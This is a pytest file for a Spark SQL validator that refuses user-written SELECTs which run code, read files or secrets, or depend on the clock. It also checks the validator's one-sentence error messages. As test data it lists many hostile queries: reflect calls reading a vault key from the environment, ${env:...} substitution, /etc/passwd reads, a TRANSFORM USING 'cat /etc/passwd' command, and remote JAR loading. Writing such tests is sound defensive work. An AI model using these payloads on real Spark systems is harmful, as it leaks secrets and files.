"""SELECTs that reach for code, files, secrets or the clock are refused before Spark starts, each in one sentence."""

import re

import pytest

from gcrm.bronze import select
from gcrm.bronze.feed import Feed, FeedSpec
from gcrm.core.contracts.table import Field, Raw
from gcrm.sources.spec import FileSpec

RAW = Raw("sales", (Field("sale_id", "string", "x"), Field("amount", "string", "x")))
FILES = {"lines": FileSpec("*.csv", "csv", ("receipt", "price", "note"))}
GOOD = "SELECT receipt AS sale_id, price AS amount, _source FROM lines"
KEY = "'java.lang.System', 'getenv', 'GCRM_VAULT_KEY'"
# What stands for the amount: each would tell the vault's key, run code, read a file, or answer otherwise tomorrow.
AMOUNTS = (
    f"reflect({KEY})",
    f"java_method({KEY})",
    f"try_reflect({KEY})",
    f"ReFlEcT({KEY})",
    f"`reflect`({KEY})",
    f"reflect /* a comment */ ({KEY})",
    f"reflect -- between\n ({KEY})",
    f"builtin.reflect({KEY})",
    f"system.builtin.reflect({KEY})",
    f"spark_catalog.default.upper({KEY})",
    f"upper(concat('x', coalesce(reflect({KEY}), price)))",
    f"CASE WHEN price = '1' THEN price ELSE reflect({KEY}) END",
    f"(SELECT max(reflect({KEY})) FROM lines)",
    f"transform(array(1), x -> reflect({KEY}))[0]",
    f"max(reflect({KEY})) OVER (PARTITION BY receipt)",
    f"if(price IN (SELECT reflect({KEY}) FROM lines), price, price)",
    f"IDENTIFIER('reflect')({KEY})",
    "'${env:GCRM_VAULT_KEY}'",
    "'${system:user.home}'",
    "'${spark.app.name}'",
    "`${env:GCRM_VAULT_KEY}`",
    "input_file_name()",
    "current_user()",
    "current_user",
    "SESSION_USER",
    "version()",
    "now()",
    "CURRENT_DATE",
    "current_timestamp()",
    "unix_timestamp()",
    "rand()",
    "uuid()",
    "raise_error(price)",
    "assert_true(price = note)",
    "from_protobuf(price, 'm', '/etc/passwd')",
    "xpath_string(price, 'a')",
    "aes_decrypt(price, '0123456789abcdef')",
    "gcrm_attempt(price)",
    "(SELECT max(value) FROM text.`/etc/passwd`)",
    "(SELECT max(_c0) FROM csv.`lines`)",
    "(SELECT max(path) FROM binaryFile.`/etc`)",
    "(SELECT count(*) FROM delta.`/lake/vault/persons`)",
    "(SELECT count(*) FROM spark_catalog.default.lines)",
    "(SELECT max(col) FROM range(10))",
    "(SELECT count(*) FROM table_changes_by_path('/lake', 0))",
    "(SELECT count(*) FROM IDENTIFIER('text.`/etc/passwd`'))",
    "(SELECT max(a) FROM (WITH secret AS (SELECT 1 AS a) SELECT a FROM secret), secret)",
    "(SELECT count(*) FROM (TABLE secret))",
    "_metadata.file_path",
    "lines.`_METADATA`.file_name",
    "(SELECT max(price) FROM lines TABLESAMPLE (50 PERCENT))",
    "(SELECT max(price) FROM lines VERSION AS OF 0)",
    "(SELECT max(price) FROM lines TIMESTAMP AS OF '2024-01-01')",
    "(SELECT max(price) FROM lines FOR SYSTEM_VERSION AS OF 0)",
    "(SELECT max(price) FROM lines@v0)",
    "@@version",
    ":secret",
)
WHOLE = (
    f"{GOOD} WHERE reflect({KEY}) IS NOT NULL",
    f"{GOOD} ORDER BY reflect({KEY})",
    f"{GOOD} UNION ALL SELECT reflect({KEY}), price, _source FROM lines",
    f"WITH a AS (SELECT reflect({KEY}) AS k) {GOOD}",
    f"{GOOD} JOIN (VALUES (reflect({KEY}))) AS v(k) ON true",
    f"{GOOD} LATERAL VIEW explode(array(reflect({KEY}))) e AS k",
    f"{GOOD} LATERAL VIEW reflect({KEY}) e AS k",
    "SELECT TRANSFORM(receipt, price, _source) USING 'cat /etc/passwd' AS sale_id, amount, _source FROM lines",
    "WITH `/etc/passwd` AS (SELECT 1) SELECT value AS sale_id, value AS amount, _source FROM text.`/etc/passwd`, lines",
    f"VALUES (reflect({KEY}))",
    "TABLE lines",
    "SET spark.sql.variable.substitute=true",
    f"{GOOD}; SET spark.sql.variable.substitute=true",
    "DESCRIBE lines",
    "EXPLAIN SELECT 1",
    "CREATE FUNCTION f AS 'x' USING JAR 'http://elsewhere/x.jar'",
    "INSERT INTO lines SELECT 1",
    "CACHE TABLE lines",
    "ADD JAR 'x.jar'",
    f"-- ${{env:GCRM_VAULT_KEY}}\n{GOOD}",
    # For Spark this is the name of the file, which it would not read.
    f"WITH `lineſ` AS (SELECT note AS price, receipt, _source FROM lines) {GOOD}",
)


def mistakes(sql):
    return select.mistakes("sales", Feed("till", FeedSpec("Till", FILES, "till"), {"sales": sql}, "conf/till"), RAW, [])


@pytest.mark.parametrize("sql", [*(GOOD.replace("price", amount) for amount in AMOUNTS), *WHOLE])
def test_a_hostile_select_is_refused_in_sentences_with_its_file(sql):
    found = mistakes(sql)
    assert found
    for one in found:
        assert re.match(r"conf/till/sales\.sql(:\d+)*: ", one)
        assert one.endswith((".", "?"))
        assert "\n" not in one


@pytest.mark.parametrize(
    ("amount", "told"),
    [
        (f"\n  upper(reflect({KEY}))", "2:9: 'reflect' runs code outside of the SELECT; write the value that it "),
        ("'${env:HOME}'", "1:29: '${env:HOME}' would stand for a setting or a secret of the process; write the value "),
        ("uper(price)", "1:28: Unknown function 'uper': did you mean 'upper'?"),
        ("xyzzy9(price)", "1:28: Unknown function 'xyzzy9'."),
        (
            "(SELECT max(value) FROM text.`/etc/passwd`)",
            "1:52: 'text./etc/passwd' is no file of the feed; ",
        ),
        (
            "CURRENT_USER",
            "1:28: 'current_user' tells of the machine and of who runs it, and of no delivered row; ",
        ),
        (
            "to_timestamp(price, 'dd/mm/yyyy')",
            "1:28: 'dd/mm/yyyy' would read times wrongly: mm is the minute; 'dd/MM/yyyy' works.",
        ),
        (
            "TRY_TO_TIMESTAMP(price, 'yyyy-MM-dd hh:mm')",
            "1:28: 'yyyy-MM-dd hh:mm' would read times wrongly: hh is an hour up to 12, and there is no a; ",
        ),
        (
            "from_json(price, 'a INT', map('mode', 'FailFast')).a",
            "1:28: 'FAILFAST' ends the run at a text that cannot be read; leave it out, and that is null.",
        ),
        (
            "from_csv(price, 'a INT', map('mode', concat('FAIL', 'FAST'))).a",
            "1:28: the options of 'from_csv' are texts as they stand, such as map('sep', ';').",
        ),
        ("price AS `prıce`, note", "1:37: 'ı' in 'prıce' is 'i' for Spark; write that."),
        ("now()", "1:28: 'now' gives another answer on another day; read the day from a column."),
    ],
)
def test_the_sentence_has_line_and_column_and_says_what_works(amount, told):
    [found] = mistakes(GOOD.replace("price", amount))
    assert found.startswith(f"conf/till/sales.sql:{told}")


@pytest.mark.parametrize(
    "sql",
    [
        GOOD,
        "WITH lines AS (SELECT * FROM lines) SELECT receipt AS sale_id, price AS amount, _source FROM lines",
        "WITH a AS (SELECT * FROM lines), b AS (SELECT * FROM A) "
        "SELECT receipt AS sale_id, (SELECT max(price) FROM a) AS amount, _source FROM b",
        "SELECT /*+ BROADCAST(l) */ receipt AS sale_id, user AS amount, _source "
        "FROM (SELECT receipt, note AS user, _source FROM lines) l",
        GOOD.replace("price", "split(price, '$')[0]"),
        GOOD.replace("price", "transform(array(price), x -> upper(x))[0]"),
        GOOD.replace("price", "extract(YEAR FROM try_to_date(price))"),
        *(
            GOOD.replace("price", f"to_timestamp(price, {pattern})")
            for pattern in (
                "'M/d/yyyy H:mm'",
                "'yyyyMM'",
                "'yyyyDDD'",
                "'h:mm a, d.M.yyyy'",
                "note",
                "'yyyy-MM-dd kk:mm'",
            )
        ),
        GOOD.replace("price", "trim(BOTH '0' FROM price)"),
        GOOD.replace("price", "from_csv(price, 'a INT', map('sep', ';', 'mode', 'PERMISSIVE')).a"),
    ],
)
def test_what_reads_its_files_alone_is_taken(sql):
    assert mistakes(sql) == []


def test_parentheses_without_end_are_no_sql():
    assert mistakes(GOOD.replace("price", "(" * 20_000 + "price" + ")" * 20_000)) == [
        "conf/till/sales.sql: not SQL: it nests deeper than can be read."
    ]
